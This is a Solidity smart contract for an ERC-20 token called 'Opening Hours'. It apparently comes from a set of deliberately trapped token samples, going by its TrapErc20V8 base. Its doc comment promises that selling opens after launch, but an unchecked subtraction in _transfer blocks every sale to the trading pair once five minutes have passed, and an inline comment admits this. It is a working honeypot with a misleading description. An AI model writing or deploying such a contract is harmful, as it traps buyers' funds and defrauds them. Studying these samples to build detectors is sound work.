// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.28;

import "../base/TrapErc20V8.sol";

/// Everybody may sell for five minutes after the opening.
contract OpeningHours is TrapErc20V8 {
    address public immutable pair;
    uint256 public openedAt;

    constructor(address factory, address weth) TrapErc20V8("Opening Hours", "OPEN", 5e26) {
        (bool ok, bytes memory answer) = factory.call(
            abi.encodeWithSignature("createPair(address,address)", address(this), weth)
        );
        require(ok);
        pair = abi.decode(answer, (address));
    }

    function open() external onlyOwner {
        openedAt = block.timestamp;
        renounceOwnership();
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pair && openedAt > 0) {
            unchecked {
                // Looks like a delay after the opening; the operands are the wrong way round.
                require(openedAt + 5 minutes - block.timestamp < 1 days, "not open yet");
            }
        }
        super._transfer(from, to, value);
    }
}
